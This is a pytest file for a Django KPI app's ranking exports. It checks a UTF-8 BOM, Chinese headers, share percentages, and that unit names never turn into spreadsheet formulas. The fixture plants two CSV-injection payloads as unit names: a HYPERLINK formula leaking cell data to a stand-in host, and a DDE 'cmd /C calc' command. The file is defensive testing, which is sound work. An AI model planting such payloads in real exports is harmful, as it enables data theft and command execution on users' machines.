"""The ranking exports as a spreadsheet user opens them: no cell turns into a formula, shares read as the page
shows them, Chinese headers, UTF-8 with BOM."""
import csv
import io
import re
import zipfile

import pytest

from jiesu.kpi.templatetags.jiesu_kpi import pct
from tests.kpi.helpers import handled


@pytest.fixture
def ranked(world):
    handled(world)
    handled(world, resolved="partly", satisfied="basically")
    handled(world, resolved="unresolved", satisfied="dissatisfied")
    handled(world, unit=world.street_b, staff=world.street_b_staff, street_code=world.street_b.code)
    # names loaded from a file (`jiesu load-units`) are not checked for what a spreadsheet makes of them
    world.street.name = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"
    world.street.save()
    world.street_b.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.street_b.save()
    return world


def rows_of(client, user, group="street"):
    client.force_login(user)
    response = client.get(f"/kpi/export.csv?group={group}")
    assert response.content.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the BOM
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_cells_from_names_never_start_a_formula(client, ranked):
    header, *rows = rows_of(client, ranked.supervisor)
    assert header[:4] == ["名次", "名次变化", "编码", "单位"]
    names = {row[3] for row in rows}
    assert names == {"'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "'@SUM(1+1)*cmd|' /C calc'!A0"}
    for row in rows:
        for cell in row:
            assert not re.match(r"[=+@\t\r]", cell), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell  # negatives are numbers


def test_csv_shares_read_as_on_the_page(client, ranked):
    header, *rows = rows_of(client, ranked.supervisor)
    mine = next(row for row in rows if row[2] == ranked.street.code)
    record = dict(zip(header, mine))
    # 东华门: (1 + 0.5·1 + 0) ÷ 3 = 50.0 %, (1 + 0.8·1 + 0) ÷ 3 = 60.0 %, as the ranking page prints them
    assert record["解决率"] == pct(1.5 / 3) == "50.0%"
    assert record["满意率"] == pct(1.8 / 3) == "60.0%"
    page = client.get("/kpi/?group=street").content.decode()
    assert "50.0%" in page and "60.0%" in page


def test_xlsx_keeps_names_as_text(client, ranked):
    client.force_login(ranked.supervisor)
    book = zipfile.ZipFile(io.BytesIO(client.get("/kpi/export.xlsx?group=street").content))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cells
    assert "HYPERLINK" in book.read("xl/sharedStrings.xml").decode()  # the name is there, as a string


def test_xlsx_explanations_are_headed_by_the_measures_names_not_code_keys(client, ranked):
    client.force_login(ranked.supervisor)
    book = zipfile.ZipFile(io.BytesIO(client.get("/kpi/export.xlsx?group=street").content))
    strings = re.findall(r"<t[^>]*>([^<]*)</t>", book.read("xl/sharedStrings.xml").decode())
    for label in ("响应率", "解决率", "满意率", "综合得分", "剔除规则"):
        assert label in strings
    for key in ("response", "resolution", "satisfaction", "speed", "governance", "whistle", "composite",
                "exclusions"):
        assert key not in strings
